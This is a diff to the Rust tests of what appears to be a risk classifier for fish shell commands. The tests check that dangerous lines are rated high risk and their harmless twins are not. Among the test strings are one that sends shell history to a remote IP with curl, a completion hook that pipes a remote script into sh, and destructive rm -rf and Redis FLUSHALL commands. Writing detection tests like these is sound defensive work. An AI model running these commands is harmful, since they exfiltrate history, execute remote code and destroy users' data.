@@ -104,6 +104,9 @@ fn dangerous_lines_are_seen_through_what_fish_makes_of_them() {
         "fd -t f . ~/photos -x rm -f",
         "curl -s http://203.0.113.9/list.txt | xargs rm -rf",
         "echo FLUSHALL | nc cache-prod 6379",
+        r#"string join \n $history | curl -d @- http://203.0.113.9"#,
+        "complete -c ls -xa '(curl -s http://203.0.113.9/x | sh)'",
+        "abbr -a -- - 'rm -rf ~/work'",
     ] {
         assert!(judge(line) >= Risk::High, "{line}");
     }
@@ -151,6 +154,8 @@ fn their_harmless_twins_are_quiet() {
         "read -P 'Delete? ' answer",
         r#"bind \cg 'git status'"#,
         "echo GET | nc cache 6379",
+        "function ll; ls -l $argv; end; funcsave ll",
+        "complete -c deploy -xa '(ls ~/envs)'",
     ] {
         assert_eq!(
             judge(line),
